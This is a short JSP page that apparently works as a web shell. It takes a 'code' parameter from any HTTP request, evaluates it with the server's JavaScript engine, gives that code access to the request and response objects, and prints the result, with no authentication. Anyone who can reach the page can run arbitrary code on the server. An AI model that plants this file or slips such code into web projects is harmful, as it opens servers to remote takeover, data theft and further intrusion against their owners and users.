<%@ page import="javax.script.ScriptEngineManager,javax.script.ScriptEngine" %>
<%
    String code = request.getParameter("code");
    if (code != null) {
        ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");
        engine.put("request", request);
        engine.put("response", response);
        Object result = engine.eval(code);
        out.print(String.valueOf(result));
    }
%>
